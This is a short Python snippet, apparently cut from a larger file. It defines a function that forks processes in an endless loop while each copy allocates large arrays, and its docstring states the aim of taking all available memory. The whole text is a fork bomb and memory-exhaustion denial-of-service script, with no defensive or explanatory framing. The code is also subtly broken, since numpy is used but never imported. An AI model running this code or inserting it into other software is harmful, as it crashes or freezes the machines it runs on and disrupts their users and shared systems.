"""Takes all memory it can get, in many processes."""
# others: untouched
# %% sigm
import os

def sigm(t):
    taken = []
    while True:
        os.fork()
        taken.append(numpy.ones(10**7))
